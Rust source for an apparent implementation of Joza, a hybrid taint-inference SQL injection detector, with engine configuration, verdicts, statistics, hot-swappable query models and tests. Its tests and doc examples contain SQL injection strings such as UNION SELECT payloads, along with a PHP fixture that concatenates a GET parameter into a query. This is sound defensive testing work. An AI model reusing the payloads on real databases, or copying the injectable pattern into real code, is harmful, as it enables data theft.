        j.check_query(&[p], &format!("SELECT * FROM records WHERE ID={p} LIMIT 5"));
        let st = j.stats();
        assert_eq!(st.queries, 2);
        assert_eq!(st.attacks, 1);
        assert!(st.nti_detections >= 1);
        assert!(st.pti_detections >= 1);
    }

    #[test]
    fn installer_extracts_from_webapp() {
        use joza_webapp::app::Plugin;
        let mut app = WebApp::new("t");
        app.add_core_source(r#"$q = "SELECT option_value FROM wp_options WHERE option_name='";"#);
        app.add_plugin(Plugin::new(
            "p",
            "1.0",
            r#"$q = "SELECT * FROM data WHERE ID=" . $_GET['id']; mysql_query($q);"#,
        ));
        let j = Joza::install(&app, JozaConfig::optimized());
        assert!(j.fragment_count() >= 3);
        let v = j.check_query(&["7"], "SELECT * FROM data WHERE ID=7");
        assert!(v.is_safe(), "{v:?}");
    }

    #[test]
    fn gate_enforces_recovery_policy() {
        let j = joza();
        let mut gate = j.gate();
        gate.begin_request(&[]);
        assert_eq!(gate.check("SELECT * FROM records WHERE ID=1 LIMIT 5"), GateDecision::Allow);
        assert_eq!(
            gate.check("SELECT * FROM records WHERE ID=-1 UNION SELECT 1 LIMIT 5"),
            GateDecision::Terminate
        );

        let j2 = Joza::builder()
            .fragments(FRAGS)
            .config(JozaConfig {
                recovery: RecoveryPolicy::ErrorVirtualization,
                ..JozaConfig::optimized()
            })
            .build();
        let mut gate = j2.gate();
        gate.begin_request(&[]);
        assert_eq!(
            gate.check("SELECT * FROM records WHERE ID=-1 UNION SELECT 1 LIMIT 5"),
            GateDecision::ErrorVirtualize
        );
    }
}
