#![warn(missing_docs)]
//! Joza: the hybrid taint-inference engine (§III-C, §IV).
//!
//! Joza combines [negative taint inference](joza_nti) and [positive taint
//! inference](joza_pti): "a query is safe if and only if both PTI and NTI
//! components deem the query safe. … If either algorithm detects an
//! attack, an attack is reported." (§III-C, §IV-E). The combination is the
//! paper's contribution — each component covers the other's blind spot:
//!
//! * attacks that evade NTI (quote-stuffed comment blocks, whitespace
//!   padding, base64 inputs) are long or vocabulary-foreign and get caught
//!   by PTI;
//! * attacks that evade PTI (short payloads assembled from fragments the
//!   application happens to contain) appear near-verbatim in the query and
//!   get caught by NTI.
//!
//! # The check pipeline
//!
//! Every check drives one fixed [`pipeline`] of stages — static fast path,
//! model fast path, NTI, PTI, structural anomaly — assembled at build time
//! from the [`JozaConfig`]. Derived query forms (token stream, skeleton,
//! fingerprint, folded bytes) are computed **once** per checked query in a
//! [`QueryArtifacts`] cache shared by all stages, and every [`Verdict`]
//! carries a per-stage [`StageTrace`] recording which stages ran,
//! short-circuited, or fired. See `DESIGN.md` §9.
//!
//! The API surface is one session type:
//!
//! * [`Joza`] + [`JozaSession`] — capture inputs, check queries one at a
//!   time ([`JozaSession::check`]) or batched
//!   ([`JozaSession::check_batch`]); the same type serves direct library
//!   use and, through the [`joza_webapp::gate::GateFactory`] impl on
//!   [`Joza`], the multi-worker server integration;
//! * [`Joza::deploy`] — hot-swap the static query models and taint-free
//!   whitelist under live traffic, without rebuilding the engine;
//! * [`Joza::install`] / [`Joza::installer`] — the installer: extract
//!   string fragments from every source file of a [`WebApp`];
//! * [`shim`] — the deprecated legacy single-worker gate adapter, kept
//!   only for old integrations and equivalence testing.
//!
//! # Concurrency
//!
//! The engine is **lock-sharded** (see `DESIGN.md` §6, §11). The
//! read-mostly side — fragment store, compiled matchers, NTI analyzer,
//! config — is shared and consulted through `&self` with no lock. The
//! route-keyed knowledge (query models, taint-free whitelist, assembled
//! pipeline) lives in an RCU-style *deployment*: an immutable release
//! behind an `RwLock<Arc<_>>` that [`Joza::deploy`] swaps atomically;
//! sessions pin the release current when they were opened, so a request
//! is served end-to-end by one consistent model generation. PTI daemon
//! clients live in per-worker shards selected by a thread-local worker
//! id, with a [`SharedQueryCache`] read layer spanning all shards.
//! Statistics are **contention-free**: each check accumulates a plain
//! delta and flushes it into the calling worker's own cache-line-aligned
//! atomic cell; [`Joza::stats`] merges the cells on the read side. The
//! NTI stage runs entirely outside any lock; only the PTI stage takes
//! the calling worker's own shard lock, so N workers proceed in parallel
//! instead of serializing on one global mutex.
//!
//! # Examples
//!
//! ```
//! use joza_core::{Joza, JozaConfig};
//!
//! let fragments = ["id", "SELECT * FROM records WHERE ID=", " LIMIT 5"];
//! let joza = Joza::builder().fragments(fragments).config(JozaConfig::default()).build();
//!
//! let mut session = joza.session();
//! session.capture_input("id", "42");
//! assert!(session.check("SELECT * FROM records WHERE ID=42 LIMIT 5").is_safe());
//!
//! session.capture_input("id", "-1 UNION SELECT username()");
//! let verdict = session.check("SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5");
//! assert!(!verdict.is_safe());
//! ```

pub mod arena;
pub mod artifacts;
pub mod pipeline;
pub mod shim;
mod stats;

pub use artifacts::QueryArtifacts;
pub use joza_nti::MatchKernel;
pub use pipeline::{StageId, StageStatus, StageTrace, STAGE_COUNT};

use joza_nti::{NtiAnalyzer, NtiConfig};
use joza_phpsim::fragments::FragmentSet;
use joza_pti::cache::CacheStats;
use joza_pti::daemon::{PtiComponent, PtiComponentConfig};
use joza_pti::{FragmentStore, SharedQueryCache};
pub use joza_sqlparse::template::{QueryModelIndex, RouteModel};
use joza_webapp::app::WebApp;
use joza_webapp::gate::{GateDecision, GateFactory, GateSession, RawInput};
use parking_lot::{Mutex, RwLock};
use pipeline::{CheckCx, CheckPipeline};
use stats::StatsCell;
use std::collections::BTreeSet;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, OnceLock};
use std::time::Duration;

/// What Joza does when an attack is detected (§IV-E).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum RecoveryPolicy {
    /// Force the application to exit; the user sees a blank page. The
    /// conservative default.
    #[default]
    Termination,
    /// Return an error code as if the query had failed and let application
    /// logic handle it.
    ErrorVirtualization,
}

/// Joza configuration.
#[derive(Debug, Clone, Default)]
pub struct JozaConfig {
    /// NTI analyzer configuration.
    pub nti: NtiConfig,
    /// PTI component configuration (deployment mode + caches).
    pub pti: PtiComponentConfig,
    /// Recovery policy on detection.
    pub recovery: RecoveryPolicy,
    /// Disable NTI (PTI-only ablation).
    pub disable_nti: bool,
    /// Disable PTI (NTI-only ablation).
    pub disable_pti: bool,
    /// Modeled per-query cost of the PHP-side Joza wrapper itself
    /// (interception, input bookkeeping, cache key hashing) — work the
    /// paper's prototype performs in interpreted PHP on every intercepted
    /// query regardless of deployment mode. Zero (free) by default; the
    /// benchmark harness sets a calibrated value (see `DESIGN.md`).
    pub wrapper_cost: Duration,
    /// Number of engine shards (per-worker PTI components + stats cells).
    /// `0` (the default) auto-sizes from available parallelism. More
    /// shards than concurrent workers is harmless — unused shards are
    /// never initialized; fewer means workers share shards and contend.
    pub shards: usize,
    /// Treat a query that falls outside a *complete* static query model
    /// as an attack on its own, even when NTI and PTI both pass. Off by
    /// default: the anomaly is recorded as a fused signal
    /// ([`Verdict::structural_anomaly`]) without changing the verdict,
    /// because model completeness is an analysis judgement rather than a
    /// ground truth.
    pub block_on_structural_anomaly: bool,
}

impl JozaConfig {
    /// The paper's deployed configuration: optimized PTI (long-lived
    /// daemon, both caches), default NTI, termination recovery.
    pub fn optimized() -> Self {
        JozaConfig { pti: PtiComponentConfig::optimized(), ..Default::default() }
    }

    /// NTI-only configuration (for the Table II / Table IV columns).
    pub fn nti_only() -> Self {
        JozaConfig { disable_pti: true, ..Self::optimized() }
    }

    /// PTI-only configuration (for the Table II / Table IV columns).
    pub fn pti_only() -> Self {
        JozaConfig { disable_nti: true, ..Self::optimized() }
    }
}

/// Which component(s) detected an attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Detector {
    /// Only NTI flagged the query.
    Nti,
    /// Only PTI flagged the query.
    Pti,
    /// Both flagged it.
    Both,
    /// Neither dynamic detector flagged it, but the query fell outside
    /// the route's complete static query model and
    /// [`JozaConfig::block_on_structural_anomaly`] is enabled.
    Structural,
}

/// How a query's verdict was reached — a summary view derived from the
/// verdict's [`StageTrace`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum CheckPath {
    /// The route was proven taint-free by the static analyzer: every
    /// detection stage was skipped.
    StaticFastPath,
    /// The route's static query model accepted the query's skeleton:
    /// NTI/PTI were skipped entirely.
    ModelFastPath,
    /// The full dynamic NTI/PTI pipeline ran.
    #[default]
    Dynamic,
}

/// The verdict for one query.
///
/// Opaque by design: construct via [`Joza::check_query`], read via the
/// accessors. `#[non_exhaustive]` keeps room to attach evidence (edit
/// distances, uncovered tokens) without breaking downstream matches.
#[non_exhaustive]
#[derive(Debug, Clone, PartialEq)]
pub struct Verdict {
    safe: bool,
    detected_by: Option<Detector>,
    nti_attack: Option<bool>,
    pti_attack: Option<bool>,
    trace: StageTrace,
    structural_anomaly: bool,
}

impl Verdict {
    /// Whether the query may proceed to the DBMS.
    pub fn is_safe(&self) -> bool {
        self.safe
    }

    /// Which component(s) detected the attack (`None` when safe).
    pub fn detector(&self) -> Option<Detector> {
        self.detected_by
    }

    /// NTI's raw verdict (`None` when NTI is disabled or a fast path
    /// skipped it).
    pub fn nti_attack(&self) -> Option<bool> {
        self.nti_attack
    }

    /// PTI's raw verdict (`None` when PTI is disabled or a fast path
    /// skipped it).
    pub fn pti_attack(&self) -> Option<bool> {
        self.pti_attack
    }

    /// Summary of how the verdict was reached, derived from the trace.
    pub fn path(&self) -> CheckPath {
        if self.trace.status(StageId::ModelFastPath) == StageStatus::ShortCircuited {
            CheckPath::ModelFastPath
        } else if self.trace.status(StageId::StaticFastPath) == StageStatus::ShortCircuited {
            CheckPath::StaticFastPath
        } else {
            CheckPath::Dynamic
        }
    }

    /// The per-stage provenance trace: what every pipeline stage did for
    /// this query.
    pub fn trace(&self) -> &StageTrace {
        &self.trace
    }

    /// True when the route has a *complete* static query model and this
    /// query's skeleton matched none of its templates — a structural
    /// signal fused with the dynamic verdict (it blocks only under
    /// [`JozaConfig::block_on_structural_anomaly`]).
    pub fn structural_anomaly(&self) -> bool {
        self.structural_anomaly
    }
}

/// Cumulative engine statistics.
///
/// The three path counters partition the checks:
/// `model_fast_hits + static_hits + full_checks == queries` holds by
/// construction — each check contributes `queries += 1` and exactly one
/// path counter to the *same* locally-accumulated delta (derived from
/// the verdict's stage trace in one place), and deltas are flushed into
/// per-worker atomic cells counter-by-counter. The invariant is exact at
/// every quiescent point (after joins/barriers); see the `stats` module
/// docs for the mid-flight caveat.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct JozaStats {
    /// Queries checked.
    pub queries: u64,
    /// Attacks reported.
    pub attacks: u64,
    /// Queries NTI flagged.
    pub nti_detections: u64,
    /// Queries PTI flagged.
    pub pti_detections: u64,
    /// Wall-clock time spent in the NTI stage.
    pub nti_time: Duration,
    /// Wall-clock time spent in the PTI stage (daemon round-trips and
    /// shard-lock acquisition included).
    pub pti_time: Duration,
    /// Queries answered by the static-model fast path (NTI/PTI skipped).
    pub model_fast_hits: u64,
    /// Queries answered by the static-analysis fast path (route proven
    /// taint-free; every detection stage skipped).
    pub static_hits: u64,
    /// Queries that ran the full dynamic pipeline.
    pub full_checks: u64,
    /// Queries that fell outside a complete static query model.
    pub model_anomalies: u64,
    /// Route-scoped checks ([`Joza::check_query_on_route`]) whose route
    /// was unknown to the engine's route-keyed knowledge — neither in the
    /// installed model index nor in the statically-proven taint-free set
    /// (the check silently fell back to the fully dynamic pipeline). Zero
    /// on engines without models or proven routes.
    pub route_misses_unknown: u64,
    /// Route-scoped checks whose route *is* in the model index but whose
    /// model is incomplete (at least one sink site inferred ⊤), the
    /// taint-free set does not cover it, and the query fell through to
    /// the fully dynamic pipeline — the partial model could not serve it
    /// and, being incomplete, could not call it anomalous either.
    /// Distinct from [`JozaStats::route_misses_unknown`] so gate coverage
    /// ("is the route known at all?") and hardening coverage ("is its
    /// model complete enough to repair?") are separately observable.
    pub route_misses_incomplete: u64,
    /// Per-stage run counts, indexed by [`StageId::index`]: how many
    /// checks each stage actually ran for (short-circuits and fires
    /// included).
    pub stage_runs: [u64; STAGE_COUNT],
    /// Per-stage hit counts, indexed by [`StageId::index`]: checks where
    /// the stage short-circuited (fast paths) or fired (detectors,
    /// structural signal).
    pub stage_hits: [u64; STAGE_COUNT],
    /// Per-stage cumulative wall-clock nanoseconds, indexed by
    /// [`StageId::index`].
    pub stage_ns: [u64; STAGE_COUNT],
}

impl JozaStats {
    fn merge(&mut self, other: &JozaStats) {
        self.queries += other.queries;
        self.attacks += other.attacks;
        self.nti_detections += other.nti_detections;
        self.pti_detections += other.pti_detections;
        self.nti_time += other.nti_time;
        self.pti_time += other.pti_time;
        self.model_fast_hits += other.model_fast_hits;
        self.static_hits += other.static_hits;
        self.full_checks += other.full_checks;
        self.model_anomalies += other.model_anomalies;
        self.route_misses_unknown += other.route_misses_unknown;
        self.route_misses_incomplete += other.route_misses_incomplete;
        for i in 0..STAGE_COUNT {
            self.stage_runs[i] += other.stage_runs[i];
            self.stage_hits[i] += other.stage_hits[i];
            self.stage_ns[i] += other.stage_ns[i];
        }
    }
}

/// One immutable release of the engine's route-keyed knowledge: the
/// static query-model index, the taint-free whitelist, and the check
/// pipeline assembled for exactly that pair (plus the engine's detector
/// config). [`Joza::deploy`] swaps releases atomically, RCU-style:
/// readers clone an `Arc` and never block a writer for longer than the
/// pointer swap; an old release is freed when the last session pinning
/// it drops.
#[derive(Debug)]
pub(crate) struct Deployment {
    /// Monotone release number: `0` as built, `+1` per successful
    /// deploy. Stamped into every [`StageTrace`] served by this release.
    generation: u64,
    models: Option<Arc<QueryModelIndex>>,
    taint_free: Option<Arc<BTreeSet<String>>>,
    /// Stored cells the static store/load pass marked attacker-reachable
    /// (`joza_sast::analyze_store_flow`). `"*"` entries are wildcards:
    /// `("t", "*")` covers every column of `t`, `("*", "*")` covers
    /// everything. Values fetched from covered cells are captured as
    /// DB-sourced inputs for NTI/PTI (second-order defense).
    dirty_cells: Option<Arc<BTreeSet<(String, String)>>>,
    checks: CheckPipeline,
}

impl Deployment {
    fn model_for(&self, route: &str) -> Option<Arc<RouteModel>> {
        self.models.as_deref().and_then(|m| m.get_arc(route))
    }
}

/// A partial update to the engine's deployed route knowledge, applied by
/// [`Joza::deploy`]. Fields left untouched keep the currently-deployed
/// value, so a rollout can replace just the model index, just the
/// taint-free whitelist, or both; rolling *back* is deploying the
/// previous index again (cheap — [`QueryModelIndex`] clones share the
/// per-route models).
#[derive(Debug, Default)]
pub struct ModelUpdate {
    models: Option<QueryModelIndex>,
    clear_models: bool,
    taint_free: Option<BTreeSet<String>>,
    clear_taint_free: bool,
    dirty_cells: Option<BTreeSet<(String, String)>>,
    clear_dirty_cells: bool,
}

impl ModelUpdate {
    /// An empty update (deploying it still mints a new generation).
    pub fn new() -> Self {
        ModelUpdate::default()
    }

    /// Replaces the deployed static query-model index.
    #[must_use]
    pub fn query_models(mut self, models: QueryModelIndex) -> Self {
        self.models = Some(models);
        self.clear_models = false;
        self
    }

    /// Removes the deployed model index entirely (every route falls back
    /// to the dynamic pipeline).
    #[must_use]
    pub fn clear_query_models(mut self) -> Self {
        self.models = None;
        self.clear_models = true;
        self
    }

    /// Replaces the deployed taint-free whitelist with these routes.
    #[must_use]
    pub fn taint_free_routes<I, S>(mut self, routes: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.taint_free = Some(routes.into_iter().map(|r| r.as_ref().to_string()).collect());
        self.clear_taint_free = false;
        self
    }

    /// Removes the deployed taint-free whitelist entirely.
    #[must_use]
    pub fn clear_taint_free_routes(mut self) -> Self {
        self.taint_free = None;
        self.clear_taint_free = true;
        self
    }

    /// Replaces the deployed dirty-cell set (from
    /// `joza_sast::StoreFlowReport::dirty_cells`): stored `(table,
    /// column)` cells whose values must be treated as taint sources when
    /// fetched. `"*"` components are wildcards.
    #[must_use]
    pub fn dirty_cells<I, S>(mut self, cells: I) -> Self
    where
        I: IntoIterator<Item = (S, S)>,
        S: AsRef<str>,
    {
        self.dirty_cells = Some(
            cells
                .into_iter()
                .map(|(t, c)| (t.as_ref().to_string(), c.as_ref().to_string()))
                .collect(),
        );
        self.clear_dirty_cells = false;
        self
    }

    /// Removes the deployed dirty-cell set entirely (no DB-sourced
    /// capture).
    #[must_use]
    pub fn clear_dirty_cells(mut self) -> Self {
        self.dirty_cells = None;
        self.clear_dirty_cells = true;
        self
    }
}

/// Rejects a model index that names routes the application does not
/// serve — a deploy-time misconfiguration that would otherwise surface
/// only as silent `route_misses_unknown` drift at runtime.
fn validate_model_routes(
    models: Option<&QueryModelIndex>,
    known: Option<&BTreeSet<String>>,
) -> Result<(), JozaBuildError> {
    if let (Some(models), Some(known)) = (models, known) {
        if let Some(rogue) = models.routes().find(|r| !known.contains(*r)) {
            return Err(JozaBuildError::UnknownModelRoute(rogue.to_string()));
        }
    }
    Ok(())
}

/// Gives each OS thread that calls into Joza a stable worker index.
/// Sequential assignment keeps ids dense: the main thread is worker 0
/// (single-threaded behaviour is identical to the pre-sharded engine) and
/// any batch of up to `shards` worker threads gets distinct shards.
fn worker_index(shards: usize) -> usize {
    static NEXT_WORKER: AtomicUsize = AtomicUsize::new(0);
    thread_local! {
        static WORKER: usize = NEXT_WORKER.fetch_add(1, Ordering::Relaxed);
    }
    WORKER.with(|w| *w) % shards
}

/// The Joza engine — shareable across worker threads by reference.
///
/// The fragment store, NTI analyzer, configuration, query models and the
/// assembled [`pipeline`] form the read-only side (no lock); PTI daemon
/// clients and statistics are sharded per-worker (see the crate docs),
/// with safe-query knowledge shared through a [`SharedQueryCache`].
pub struct Joza {
    pub(crate) config: JozaConfig,
    pub(crate) nti: NtiAnalyzer,
    store: Arc<FragmentStore>,
    shared_query_cache: Option<Arc<SharedQueryCache>>,
    shards: Box<[OnceLock<Mutex<PtiComponent>>]>,
    /// Per-worker statistics cells, one per shard slot; checks flush
    /// locally-accumulated deltas here, [`Joza::stats`] merges on read.
    stats_cells: Box<[StatsCell]>,
    fragment_count: usize,
    /// Routes the application actually serves, when the builder was told
    /// them ([`JozaBuilder::known_routes`]; `Joza::installer` fills it
    /// from the app). The consistency oracle for model installs and
    /// deploys.
    known_routes: Option<BTreeSet<String>>,
    /// The current release of route-keyed knowledge. Readers clone the
    /// inner `Arc` under a momentary read lock; [`Joza::deploy`] holds
    /// the write lock only for the pointer swap.
    deployment: RwLock<Arc<Deployment>>,
    /// Generation minted by the most recent deploy (the as-built
    /// deployment is generation 0).
    next_generation: AtomicU64,
}

impl std::fmt::Debug for Joza {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let dep = self.deployment.read();
        f.debug_struct("Joza")
            .field("fragments", &self.fragment_count)
            .field("shards", &self.shards.len())
            .field("generation", &dep.generation)
            .field("pipeline", &dep.checks)
            .field("config", &self.config)
            .finish_non_exhaustive()
    }
}

impl Joza {
    /// Starts building an engine.
    pub fn builder() -> JozaBuilder {
        JozaBuilder::default()
    }

    /// The installer (§IV-A) as a builder: extracts string fragments from
    /// every source file reachable in the application and returns a
    /// [`JozaBuilder`] preloaded with them, so callers can attach query
    /// models, a taint-free whitelist, or kernel overrides before
    /// building.
    pub fn installer(app: &WebApp, config: JozaConfig) -> JozaBuilder {
        let mut set = FragmentSet::new();
        for src in app.all_sources() {
            set.add_source(src);
        }
        Joza::builder()
            .fragment_set(&set)
            .known_routes(app.plugins().map(|p| p.name.as_str()))
            .config(config)
    }

    /// The installer (§IV-A): extracts string fragments from every source
    /// file reachable in the application and builds an engine over them.
    pub fn install(app: &WebApp, config: JozaConfig) -> Joza {
        Joza::installer(app, config).build()
    }

    /// The installer plus static query models: like [`Joza::install`],
    /// but also compiles a per-route [`QueryModelIndex`] (from
    /// `joza_sast::app_query_models`) into the gate, enabling the
    /// skeleton fast path and the structural-anomaly signal.
    pub fn install_with_models(app: &WebApp, config: JozaConfig, models: QueryModelIndex) -> Joza {
        Joza::installer(app, config).query_models(models).build()
    }

    /// The engine configuration.
    pub fn config(&self) -> &JozaConfig {
        &self.config
    }

    /// Number of fragments in the PTI vocabulary.
    pub fn fragment_count(&self) -> usize {
        self.fragment_count
    }

    /// Number of shards the engine was built with.
    pub fn shard_count(&self) -> usize {
        self.shards.len()
    }

    /// A snapshot of cumulative statistics, merged over every worker's
    /// stats cell. Exact whenever no check is mid-flush (joins, barriers,
    /// end of a run); see the `stats` module docs.
    pub fn stats(&self) -> JozaStats {
        let mut total = JozaStats::default();
        for cell in self.stats_cells.iter() {
            total.merge(&cell.snapshot());
        }
        total
    }

    /// PTI query-cache statistics: the shared cache's counters when the
    /// engine runs one (the default for cache-enabled configs), otherwise
    /// the sum over per-shard local caches.
    pub fn query_cache_stats(&self) -> CacheStats {
        if let Some(shared) = &self.shared_query_cache {
            return shared.stats();
        }
        let mut total = CacheStats::default();
        for cell in self.shards.iter() {
            if let Some(shard) = cell.get() {
                let s = shard.lock().query_cache_stats();
                total.hits += s.hits;
                total.misses += s.misses;
                total.inserts += s.inserts;
            }
        }
        total
    }

    /// Starts an analysis session (captures inputs for NTI, then checks
    /// queries) with no route context. The session pins the deployment
    /// current at this moment: a deploy racing with an open session takes
    /// effect for sessions opened after it.
    pub fn session(&self) -> JozaSession<'_> {
        JozaSession {
            joza: self,
            dep: self.deployment(),
            route: None,
            model: None,
            inputs: Vec::new(),
        }
    }

    /// Starts an analysis session scoped to `route`: checks go through
    /// the route's fast paths (taint-free whitelist, static query model)
    /// when the pinned deployment has them installed.
    pub fn session_for(&self, route: &str) -> JozaSession<'_> {
        let dep = self.deployment();
        let model = dep.model_for(route);
        JozaSession { joza: self, dep, route: Some(route.to_string()), model, inputs: Vec::new() }
    }

    /// The calling worker's PTI shard, initialized on first touch. Lazy
    /// initialization means an engine serving one thread runs exactly one
    /// PTI component (and one daemon), however many shards are configured.
    pub(crate) fn shard(&self) -> &Mutex<PtiComponent> {
        let cell = &self.shards[worker_index(self.shards.len())];
        cell.get_or_init(|| {
            Mutex::new(PtiComponent::with_store(
                Arc::clone(&self.store),
                self.config.pti.clone(),
                self.shared_query_cache.clone(),
            ))
        })
    }

    /// The calling worker's statistics cell.
    fn stats_cell(&self) -> &StatsCell {
        &self.stats_cells[worker_index(self.stats_cells.len())]
    }

    /// The current deployment (owned handle): route-keyed knowledge plus
    /// the pipeline assembled for it.
    pub(crate) fn deployment(&self) -> Arc<Deployment> {
        Arc::clone(&self.deployment.read())
    }

    /// The generation of the currently-deployed model release: `0` as
    /// built, incremented by every successful [`Joza::deploy`].
    pub fn generation(&self) -> u64 {
        self.deployment.read().generation
    }

    /// Atomically replaces the deployed route knowledge (RCU-style):
    /// validates the update, assembles the pipeline for it, and swaps it
    /// in under live traffic. In-flight sessions finish on the release
    /// they pinned; sessions opened after the swap (and engine-level
    /// `check_query*` calls) see the new one. Returns the new release's
    /// generation, which every verdict served by it carries in its
    /// [`StageTrace::generation`].
    ///
    /// # Errors
    ///
    /// [`JozaBuildError::UnknownModelRoute`] when the engine knows the
    /// application's routes and the update's model index names one the
    /// app does not serve; the current deployment stays in place.
    pub fn deploy(&self, update: ModelUpdate) -> Result<u64, JozaBuildError> {
        let current = self.deployment();
        let models = match (update.models, update.clear_models) {
            (Some(ix), _) => Some(Arc::new(ix)),
            (None, true) => None,
            (None, false) => current.models.clone(),
        };
        let taint_free = match (update.taint_free, update.clear_taint_free) {
            (Some(set), _) => Some(Arc::new(set)),
            (None, true) => None,
            (None, false) => current.taint_free.clone(),
        };
        let dirty_cells = match (update.dirty_cells, update.clear_dirty_cells) {
            (Some(set), _) => Some(Arc::new(set)),
            (None, true) => None,
            (None, false) => current.dirty_cells.clone(),
        };
        validate_model_routes(models.as_deref(), self.known_routes.as_ref())?;
        let checks = CheckPipeline::assemble(
            taint_free.is_some(),
            models.is_some(),
            self.config.disable_nti,
            self.config.disable_pti,
        );
        // Generation is minted inside the write lock so the installed
        // sequence is strictly increasing even under racing deploys —
        // that is what makes trace stamps monotone for every observer.
        let mut slot = self.deployment.write();
        let generation = self.next_generation.fetch_add(1, Ordering::Relaxed) + 1;
        *slot = Arc::new(Deployment { generation, models, taint_free, dirty_cells, checks });
        Ok(generation)
    }

    /// Checks one query against a set of captured raw inputs, with no
    /// route context (never consults the static query models).
    pub fn check_query(&self, inputs: &[&str], query: &str) -> Verdict {
        let dep = self.deployment();
        self.check_on(&dep, None, None, inputs, query)
    }

    /// Checks one query on a named route: the route's fast paths (when
    /// installed and applicable) run first; an unknown route is recorded
    /// as a [`JozaStats::route_misses_unknown`] and falls back to the
    /// fully dynamic pipeline.
    pub fn check_query_on_route(&self, route: &str, inputs: &[&str], query: &str) -> Verdict {
        let dep = self.deployment();
        let model = dep.model_for(route);
        self.check_on(&dep, Some(route), model.as_deref(), inputs, query)
    }

    /// The currently-deployed static query models, if any (an owned
    /// handle — the index may be hot-swapped by a later deploy).
    pub fn query_models(&self) -> Option<Arc<QueryModelIndex>> {
        self.deployment.read().models.clone()
    }

    /// The currently-deployed static query model for `route`, if any.
    pub fn model_for(&self, route: &str) -> Option<Arc<RouteModel>> {
        self.deployment.read().model_for(route)
    }

    /// Single-check entry point: runs [`Joza::check_in`] and flushes its
    /// one-check delta into the calling worker's stats cell.
    pub(crate) fn check_on(
        &self,
        dep: &Deployment,
        route: Option<&str>,
        model: Option<&RouteModel>,
        inputs: &[&str],
        query: &str,
    ) -> Verdict {
        let mut delta = JozaStats::default();
        let verdict = self.check_in(dep, route, model, inputs, query, &mut delta);
        self.stats_cell().add(&delta);
        verdict
    }

    /// The one check core: every session, gate, batch and legacy-shim
    /// check funnels here and drives the deployment's assembled pipeline.
    /// Statistics are accumulated into `stats` (a plain local delta) so
    /// batch callers can merge many checks and flush once.
    pub(crate) fn check_in(
        &self,
        dep: &Deployment,
        route: Option<&str>,
        model: Option<&RouteModel>,
        inputs: &[&str],
        query: &str,
        stats: &mut JozaStats,
    ) -> Verdict {
        joza_phpsim::cost::simulate(self.config.wrapper_cost);

        // A route-scoped check on a deployment with route knowledge
        // (models or statically-proven routes) that the fast paths cannot
        // serve: silent fallback to dynamic, but counted — as *unknown*
        // when the route is in neither the model index nor the taint-free
        // set, as *incomplete* when it is indexed but its model left a
        // sink ⊤.
        let (route_miss_unknown, route_miss_incomplete) = match route {
            Some(r)
                if (dep.models.is_some() || dep.taint_free.is_some())
                    && !dep.taint_free.as_ref().is_some_and(|t| t.contains(r)) =>
            {
                match model {
                    None => (true, false),
                    Some(m) => (false, !m.complete),
                }
            }
            _ => (false, false),
        };

        // The artifacts lease their buffers from the calling thread's
        // check arena; the `with_arena` scope is exactly the check, so
        // the buffers park back (capacity kept) when `artifacts` drops.
        crate::arena::with_arena(|check_arena| {
            let artifacts = QueryArtifacts::new_in(query, check_arena);
            let mut cx = CheckCx {
                route,
                model,
                taint_free: dep.taint_free.as_deref(),
                inputs,
                artifacts: &artifacts,
                arena: check_arena,
                nti_attack: None,
                pti_attack: None,
                structural_anomaly: false,
                trace: StageTrace::for_generation(dep.generation),
                stage_ns: [0; STAGE_COUNT],
            };
            dep.checks.run(self, &mut cx);

            let mut detected_by = match (cx.nti_attack, cx.pti_attack) {
                (Some(true), Some(true)) => Some(Detector::Both),
                (Some(true), _) => Some(Detector::Nti),
                (_, Some(true)) => Some(Detector::Pti),
                _ => None,
            };
            if detected_by.is_none()
                && cx.structural_anomaly
                && self.config.block_on_structural_anomaly
            {
                detected_by = Some(Detector::Structural);
            }
            let verdict = Verdict {
                safe: detected_by.is_none(),
                detected_by,
                nti_attack: cx.nti_attack,
                pti_attack: cx.pti_attack,
                trace: cx.trace,
                structural_anomaly: cx.structural_anomaly,
            };
            Self::accumulate(stats, &cx, &verdict, route_miss_unknown, route_miss_incomplete);
            verdict
        })
    }

    /// Accumulates one check's counters into a local delta, from the
    /// stage trace alone — the one place every counter is incremented,
    /// which is what makes the path partition
    /// (`model_fast_hits + static_hits + full_checks == queries`) drift-
    /// free by construction.
    fn accumulate(
        stats: &mut JozaStats,
        cx: &CheckCx<'_, '_>,
        verdict: &Verdict,
        route_miss_unknown: bool,
        route_miss_incomplete: bool,
    ) {
        stats.queries += 1;
        for id in StageId::ALL {
            let i = id.index();
            stats.stage_ns[i] += cx.stage_ns[i];
            match cx.trace.status(id) {
                StageStatus::Skipped => {}
                StageStatus::Passed => stats.stage_runs[i] += 1,
                StageStatus::ShortCircuited | StageStatus::Fired => {
                    stats.stage_runs[i] += 1;
                    stats.stage_hits[i] += 1;
                }
            }
        }
        match verdict.path() {
            CheckPath::ModelFastPath => stats.model_fast_hits += 1,
            CheckPath::StaticFastPath => stats.static_hits += 1,
            CheckPath::Dynamic => stats.full_checks += 1,
        }
        if route_miss_unknown {
            stats.route_misses_unknown += 1;
        }
        // Incomplete-model misses only count when the partial model
        // failed to serve the query: a skeleton the model does cover
        // still rides the fast path and is no miss.
        if route_miss_incomplete && verdict.path() == CheckPath::Dynamic {
            stats.route_misses_incomplete += 1;
        }
        if cx.structural_anomaly {
            stats.model_anomalies += 1;
        }
        if cx.nti_attack == Some(true) {
            stats.nti_detections += 1;
        }
        if cx.pti_attack == Some(true) {
            stats.pti_detections += 1;
        }
        if !verdict.safe {
            stats.attacks += 1;
        }
        stats.nti_time += Duration::from_nanos(cx.stage_ns[StageId::Nti.index()]);
        stats.pti_time += Duration::from_nanos(cx.stage_ns[StageId::Pti.index()]);
    }

    pub(crate) fn begin_request_inner(&self) {
        self.shard().lock().begin_request();
    }

    pub(crate) fn decide(&self, verdict: &Verdict) -> GateDecision {
        if verdict.is_safe() {
            GateDecision::Allow
        } else {
            match self.config.recovery {
                RecoveryPolicy::Termination => GateDecision::Terminate,
